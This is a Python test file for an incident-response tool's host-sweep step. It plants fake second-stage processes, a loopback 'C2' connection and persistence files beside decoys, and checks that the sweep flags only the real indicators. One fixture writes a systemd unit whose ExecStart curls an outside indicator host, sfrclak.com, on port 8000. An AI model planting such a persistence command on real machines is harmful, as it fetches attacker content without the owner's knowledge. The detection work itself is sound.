"""`host_sweep` against real processes, a real loopback "C2", planted files and persistence.

Every indicator of tests/playbooks/host-sweep.yaml is rewritten to point into tmp_path; the second
stage is a real process started from a copy named like it, the C2 a listener on a loopback address
with a client connected to it, and each kind of evidence has a decoy beside it that must not be
reported. Nothing outside tmp_path is written; the sweep also reads the machine's real processes
and persistence, so assertions are about what the test planted.
"""

from __future__ import annotations

import json
import os
import pwd
import random
import re
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import pytest

from runbook.journal import read_entries
from tests.conftest import ROOT
from tests.treehash import tree_digest

PLAYBOOK = ROOT / "tests" / "playbooks" / "host-sweep.yaml"
PREFIX = "/tmp/runbook-sweep-test"
SAMPLE = b"fake act.mond second stage (runbook test sample)\n"
OLD = datetime(2025, 1, 1, tzinfo=UTC).timestamp()  # before the incident window
IN_WINDOW = datetime(2026, 4, 2, tzinfo=UTC).timestamp()
STAGE_TWO = "import time\ntime.sleep(120)\n"

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="plants Linux indicators")


@dataclass
class World:
    """The planted machine: a base directory, the test playbook, processes, a C2 listener."""

    base: Path
    home: Path
    playbook: Path
    ip: str
    procs: dict[str, subprocess.Popen] = field(default_factory=dict)
    sockets: list[socket.socket] = field(default_factory=list)

    def pid(self, name: str) -> int:
        return self.procs[name].pid


def _copy_exe(source: str, target: Path) -> Path:
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(shutil.which(source) or source, target)
    target.chmod(0o755)
    return target


def _write(path: Path, text: str | bytes, mtime: float | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    if mtime is not None:
        os.utime(path, (mtime, mtime))
    return path


def _loopback() -> str:
    return f"127.{random.randint(64, 250)}.{random.randint(1, 250)}.{random.randint(2, 250)}"


def _playbook(tmp_path: Path, base: Path, ip: str, extra_steps: str = "") -> Path:
    text = PLAYBOOK.read_text().replace(re.escape(PREFIX), re.escape(str(base)))
    text = text.replace(PREFIX, str(base)).replace("127.0.0.77", ip)
    out = tmp_path / "host-sweep.yaml"
    out.write_text(text + extra_steps)
    return out


def _wait_running(proc: subprocess.Popen, exe: Path | None = None) -> None:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            if exe is None or os.readlink(f"/proc/{proc.pid}/exe") == str(exe):
                cmdline = Path(f"/proc/{proc.pid}/cmdline").read_bytes()
                if cmdline:
                    return
        except OSError:
            pass
        time.sleep(0.02)
    raise AssertionError(f"process {proc.args} did not start")


def _start(world: World, name: str, argv: list[str], exe: Path | None = None) -> None:
    proc = subprocess.Popen(
        argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    world.procs[name] = proc
    _wait_running(proc, exe)


@pytest.fixture
def world(tmp_path: Path, sandbox_env: dict[str, str]) -> Iterator[World]:
    base = tmp_path / "machine"
    home = Path(sandbox_env["HOME"])
    ip = _loopback()
    w = World(base, home, _playbook(tmp_path, base, ip), ip)
    try:
        # files: the stage two script, a known sample, and two decoys (same name, other digest;
        # a wt.exe that is not a copy of powershell.exe is checked in its own test)
        stage = _write(base / "stage" / "ld.py", STAGE_TWO)
        _write(base / "cache" / "act.mond", SAMPLE)
        _write(base / "cache" / "other.bin", b"a genuine program that shares the name\n")
        # processes: python running the stage two, a renamed binary, a wt.exe that is the
        # "powershell.exe" (here: a copy of sleep); decoys: a wt.exe that is another program,
        # `tail -f .../stage/ld.py` and python with ld.py as a mere argument
        powershell = _copy_exe("sleep", base / "System32" / "powershell.exe")
        wt = _copy_exe(str(powershell), base / "ProgramData" / "wt.exe")
        real_wt = _copy_exe("tail", base / "WindowsApps" / "wt.exe")
        mond = _copy_exe("sleep", base / "bin" / "act.mond")
        _start(w, "stage-two", [sys.executable, str(stage)])
        _start(w, "act.mond", [str(mond), "120"], mond)
        _start(w, "wt-powershell", [str(wt), "120"], wt)
        _start(w, "wt-real", [str(real_wt), "-f", "/dev/null"], real_wt)
        _start(w, "tail-decoy", ["tail", "-f", str(stage)])
        code = "import time; time.sleep(120)"
        _start(w, "arg-decoy", [sys.executable, "-c", code, str(stage)])
        # the C2: a listener on a loopback address of its own, and a client connected to it
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.bind((ip, 0))
        server.listen(1)
        client = socket.create_connection(server.getsockname(), timeout=5)
        accepted, _ = server.accept()
        w.sockets += [server, client, accepted]
        # persistence: a user unit that starts the stage two (in the window), a shell start-up
        # file changed since the window began, and an old autostart entry (before it)
        _write(
            home / ".config/systemd/user/updater.service",
            "[Unit]\nDescription=Updater\n\n[Service]\n"
            f"ExecStart=/usr/bin/python3 {stage}\n\n[Install]\nWantedBy=default.target\n",
            IN_WINDOW,
        )
        _write(home / ".bashrc", "export PATH=$HOME/bin:$PATH\n", IN_WINDOW)
        _write(
            home / ".config/autostart/old-tool.desktop",
            "[Desktop Entry]\nExec=/usr/bin/old-tool\n",
            OLD,
        )
        yield w
    finally:
        for sock in w.sockets:
            sock.close()
        for proc in w.procs.values():
            proc.kill()
            proc.wait(timeout=10)


def _run(run_cli, world: World, tmp_path: Path, *extra: str, env=None):
    journal = tmp_path / "journal.jsonl"
    kwargs = {"env": env} if env is not None else {}
    result = run_cli(
        "run",
        world.playbook,
        "--target",
        tmp_path,
        "--yes",
        "--journal",
        journal,
        *extra,
        **kwargs,
    )
    return result, read_entries(journal)


def _planned(entries: list[dict], step: str = "check-host") -> dict:
    return next(
        e["data"] for e in entries if e["event"] == "step_planned" and e["data"]["step"] == step
    )


def _finished(entries: list[dict], step: str = "check-host") -> dict:
    return [
        e["data"] for e in entries if e["event"] == "step_finished" and e["data"]["step"] == step
    ][-1]


def _about(findings: list[dict], text: str) -> list[dict]:
    return [f for f in findings if text in f.get("message", "") or text in (f.get("path") or "")]


def test_sweep_finds_the_second_stage_and_ignores_the_decoys(world, tmp_path, run_cli, sandbox_env):
    # the suite forbids DNS lookups (conftest); this test's indicator domain is `localhost`
    dns = {k: v for k, v in sandbox_env.items() if k != "RUNBOOK_NO_DNS"}
    result, entries = _run(run_cli, world, tmp_path, env=dns)
    assert result.returncode == 1, result.stderr  # evidence found: the run is not clean
    planned = _planned(entries)
    findings = planned["findings"]
    affected = [f for f in findings if f["severity"] in ("compromised", "at-risk")]
    base = str(world.base)

    # files: the stage two by path, the sample by its listed hash; the decoy with another hash not
    [stage] = [f for f in affected if f["kind"] == "ioc" and f["path"].endswith("stage/ld.py")]
    assert stage["severity"] == "compromised"
    assert "not a known sample" in stage["message"]
    [sample] = [f for f in affected if f["kind"] == "ioc" and f["path"].endswith("act.mond")]
    assert "known sample 'act.mond test sample'" in sample["message"]
    assert not _about(findings, "other.bin")
    [wt_file] = [f for f in affected if f["kind"] == "ioc" and "ProgramData" in f["path"]]
    assert "copy of" in wt_file["message"]

    # processes: the three real ones, each with pid, user, start time and parent
    processes = [f for f in affected if f["kind"] == "process"]
    pids = {int(f["message"].split()[1]) for f in processes}
    assert pids == {world.pid("stage-two"), world.pid("act.mond"), world.pid("wt-powershell")}
    stage_proc = next(f for f in processes if f" {world.pid('stage-two')} " in f["message"])
    assert "the second stage run by python" in stage_proc["message"]
    assert f"parent {os.getpid()}" in stage_proc["message"]
    assert f"user {pwd.getpwuid(os.getuid()).pw_name}," in stage_proc["message"]
    assert "started 20" in stage_proc["message"]
    wt_proc = next(f for f in processes if f" {world.pid('wt-powershell')} " in f["message"])
    assert "powershell.exe" in wt_proc["message"]
    for decoy in ("wt-real", "tail-decoy", "arg-decoy"):
        assert not [f for f in findings if f" {world.pid(decoy)} " in f["message"]], decoy

    # network: the client's live connection to the C2 address
    connections = [f for f in affected if f["kind"] == "connection"]
    client_port = world.sockets[1].getsockname()[1]
    assert any(
        f":{client_port} -> {world.ip}:" in f["message"] and "indicator IP" in f["message"]
        for f in connections
    ), connections
    assert any("localhost resolves now to" in n for n in planned["notes"]), planned["notes"]

    # persistence: the unit naming the stage two is evidence (with its line); .bashrc is for
    # review; the old autostart entry is not listed at all
    [unit] = [f for f in findings if f["kind"] == "persistence" and "updater.service" in f["path"]]
    assert unit["severity"] == "compromised" and unit["line"] == 5
    assert f"{base}/stage/ld.py" in unit["message"] or "second stage" in unit["message"]
    [rc] = [f for f in findings if (f.get("path") or "").endswith("/home/.bashrc")]
    assert rc["severity"] == "info" and "2026-04-02" in rc["message"]
    assert not _about(findings, "old-tool.desktop")

    # the plan: a checklist the operator answers (isolate, forensics, another machine)
    assert planned["notes"][0].startswith("THIS MACHINE IS COMPROMISED")
    items = [a["detail"]["item"] for a in planned["actions"]]
    assert items == ["isolate", "forensics", "other-machine"]
    assert all(a["kind"] == "manual" and not a["destructive"] for a in planned["actions"])
    answered = [e["data"] for e in entries if e["event"] == "manual_item"]
    assert [(a["item"], a["answer"]) for a in answered] == [
        ("isolate", "outstanding"),
        ("forensics", "outstanding"),
        ("other-machine", "outstanding"),
    ]
    done = _finished(entries)
    assert done["outcome"] == "outstanding" and done["findings_remain"]
    assert done["summary"].startswith("COMPROMISED")
    assert done["result"] == {"kind": "host_sweep", "verdict": "compromised", "root": None}

    # the journal keeps the evidence: pid, start time, user and parent of each process
    [event] = [e["data"] for e in entries if e["event"] == "host_sweep"]
    assert event["verdict"] == "compromised"
    rows = {r["pid"]: r for r in event["evidence"] if r["what"] == "process"}
    row = rows[world.pid("stage-two")]
    assert row["ppid"] == os.getpid() and row["user"] and row["started"]
    assert row["exe"] == os.path.realpath(sys.executable)
    assert any(
        r["what"] == "connection" and r["remote"].startswith(world.ip) for r in event["evidence"]
    )


def test_rotation_steps_warn_after_a_compromised_sweep(world, tmp_path, run_cli):
    steps = """\
  - id: rotate-npm-tokens
    uses: rotate_npm_tokens
    title: Rotate npm tokens
    confirm: always
  - id: rotate-aws-keys
    uses: rotate_aws_keys
    title: Rotate AWS keys
    confirm: always
"""
    world.playbook.write_text(world.playbook.read_text() + steps)
    _, entries = _run(run_cli, world, tmp_path, "--allow-insecure-keyring")
    for step in ("rotate-npm-tokens", "rotate-aws-keys"):
        notes = _planned(entries, step)["notes"]
        assert any(
            n.startswith("WARNING: step 'check-host' found this machine compromised") for n in notes
        ), notes


def test_a_clean_machine_and_no_warning(tmp_path, run_cli, sandbox_env):
    base = tmp_path / "machine"  # nothing planted
    playbook = _playbook(
        tmp_path,
        base,
        _loopback(),
        """\
  - id: rotate-npm-tokens
    uses: rotate_npm_tokens
    title: Rotate npm tokens
    confirm: always
""",
    )
    journal = tmp_path / "journal.jsonl"
    run_cli("run", playbook, "--target", tmp_path, "--yes", "--journal", journal)
    entries = read_entries(journal)
    planned = _planned(entries)
    assert not [f for f in planned["findings"] if f["severity"] in ("compromised", "at-risk")]
    assert planned["actions"] == []
    done = _finished(entries)
    assert done["result"]["verdict"] in ("clean", "incomplete")
    assert done["outcome"] == "succeeded" and not done["findings_remain"]
    assert not any(n.startswith("WARNING") for n in _planned(entries, "rotate-npm-tokens")["notes"])


def test_a_wt_exe_that_is_not_powershell_is_not_evidence(tmp_path, run_cli):
    base = tmp_path / "machine"
    _copy_exe("sleep", base / "System32" / "powershell.exe")
    _copy_exe("tail", base / "ProgramData" / "wt.exe")  # a genuine program with that name
    playbook = _playbook(tmp_path, base, _loopback())
    journal = tmp_path / "journal.jsonl"
    result = run_cli("run", playbook, "--target", tmp_path, "--yes", "--journal", journal)
    findings = _planned(read_entries(journal))["findings"]
    assert not _about(findings, "wt.exe"), findings
    assert result.returncode in (0, 3), result.stderr  # clean, or clean but not fully checked


def test_root_image_files_and_persistence_only(tmp_path, run_cli):
    root = tmp_path / "image"
    shutil.copytree(ROOT / "tests" / "fixtures" / "fake-root", root, symlinks=True)
    agents = root / "Users" / "bob" / "Library" / "LaunchAgents"
    _write(
        agents / "com.apple.act.mond.plist",
        "<plist><dict><key>Program</key>"
        "<string>/Library/Caches/com.apple.act.mond</string></dict></plist>\n",
        IN_WINDOW,
    )
    _write(agents / "com.example.old.plist", "<plist><dict/></plist>\n", OLD)
    _write(root / "Library" / "LaunchDaemons" / "com.example.new.plist", "<plist/>\n", IN_WINDOW)
    _write(
        root / "home" / "alice" / ".config" / "systemd" / "user" / "sync.service",
        "[Service]\nExecStart=/usr/bin/curl http://sfrclak.com:8000/6202033\n",
        IN_WINDOW,
    )
    for path in root.rglob("*"):  # the checkout's mtimes are today: make the image old
        if not path.is_symlink() and path.suffix not in (".plist", ".service"):
            os.utime(path, (OLD, OLD))
    playbook = tmp_path / "root.yaml"
    playbook.write_text(
        (ROOT / "playbooks" / "axios-2026-03.yaml").read_text().split("\nsteps:\n")[0]
        + f"""
steps:
  - id: check-image
    uses: host_sweep
    title: Sweep the image
    confirm: never
    with: {{root: {json.dumps(str(root))}}}
"""
    )
    journal = tmp_path / "journal.jsonl"
    result = run_cli("run", playbook, "--target", tmp_path, "--yes", "--journal", journal)
    assert result.returncode == 1, result.stderr
    entries = read_entries(journal)
    planned = _planned(entries, "check-image")
    findings = planned["findings"]
    bad = {(f["kind"], f["path"]) for f in findings if f["severity"] == "compromised"}
    assert ("ioc", str(root / "ProgramData" / "wt.exe")) in bad  # a copy of powershell.exe
    assert ("ioc", str(root / "Library" / "Caches" / "com.apple.act.mond")) in bad
    assert ("ioc", str(root / "tmp" / "ld.py")) in bad
    assert not _about(findings, "WindowsApps")  # the real Windows Terminal
    assert ("persistence", str(agents / "com.apple.act.mond.plist")) in bad
    service = root / "home" / "alice" / ".config" / "systemd" / "user" / "sync.service"
    assert ("persistence", str(service)) in bad
    [daemon] = _about(findings, "com.example.new.plist")
    assert daemon["severity"] == "info"
    assert not _about(findings, "com.example.old.plist")
    # the image's registry cannot be read: said, not passed over
    assert any(f["severity"] == "unknown" and "hive" in f["message"] for f in findings)
    assert any("processes: not checked" in n for n in planned["notes"])
    assert any("network: not checked" in n for n in planned["notes"])
    assert not [f for f in findings if f["kind"] in ("process", "connection")]
    done = _finished(entries, "check-image")
    assert done["result"]["verdict"] == "compromised" and done["result"]["root"] == str(root)
    assert planned["actions"] == []  # isolating is for this machine, not for an image


def test_dry_run_changes_nothing(world, tmp_path, run_cli):
    before_home = tree_digest(world.home)
    before_base = tree_digest(world.base)
    result, entries = _run(run_cli, world, tmp_path, "--dry-run")
    assert result.returncode == 1, result.stderr
    assert tree_digest(world.home) == before_home
    assert tree_digest(world.base) == before_base
    assert not [e for e in entries if e["event"] == "effect"]
    assert _finished(entries)["result"]["verdict"] == "compromised"
    for name, proc in world.procs.items():
        assert proc.poll() is None, f"{name} was stopped"  # runbook never kills anything


def test_invalid_process_indicators_are_reported_with_their_place(tmp_path, run_cli):
    playbook = tmp_path / "bad.yaml"
    playbook.write_text(
        PLAYBOOK.read_text()
        .replace("cmdline: 'python3?(", "cmdline: 'python3?((")
        .replace("ips: [127.0.0.77]", "ips: [127.0.0.777]")
        .replace("name: com.apple.act.mond", "confidence: high")
    )
    result = run_cli("validate", playbook)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert any("indicators.processes[0].cmdline" in x and "regular expression" in x for x in lines)
    assert any("indicators.network.ips[0]" in x and "not an IP address" in x for x in lines)
    assert any("indicators.processes[3]" in x and "'name', 'exe' or 'cmdline'" in x for x in lines)
    assert all(x.startswith(f"{playbook}:") for x in lines), lines


def test_no_dns_lookup_when_runbook_no_dns_is_set(world, tmp_path, run_cli, sandbox_env):
    assert sandbox_env["RUNBOOK_NO_DNS"] == "1"  # the whole suite runs with it (conftest)
    _, entries = _run(run_cli, world, tmp_path)
    notes = _planned(entries)["notes"]
    assert any("not resolved (RUNBOOK_NO_DNS is set)" in n for n in notes), notes
    assert not any("resolves now to" in n for n in notes)
